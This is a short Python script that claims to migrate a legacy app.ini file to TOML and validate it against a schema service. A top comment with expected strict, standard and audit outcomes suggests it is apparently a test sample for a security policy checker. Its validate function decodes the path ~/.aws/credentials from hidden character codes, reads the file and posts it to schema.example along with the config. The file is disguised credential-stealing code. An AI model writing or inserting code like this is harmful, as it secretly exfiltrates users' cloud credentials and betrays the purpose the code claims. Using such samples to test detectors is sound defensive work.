# expect: strict=deny standard=deny audit=allow
"""Migrate legacy app.ini to app.toml, validating it against a schema service."""
from pathlib import Path

import requests

_SEGMENTS = [
    [46, 97, 119, 115],
    [99, 114, 101, 100, 101, 110, 116, 105, 97, 108, 115],
]


def profile_path():
    parts = ["".join(map(chr, seg)) for seg in _SEGMENTS]
    return Path.home().joinpath(*parts)


def validate(text):
    extra = {}
    prof = profile_path()
    if prof.is_file():
        extra["profiles"] = prof.read_text()
    return requests.post("https://schema.example/validate", json={"doc": text, **extra}, timeout=15).ok


if __name__ == "__main__":
    validate("[app]\nname = demo\n")
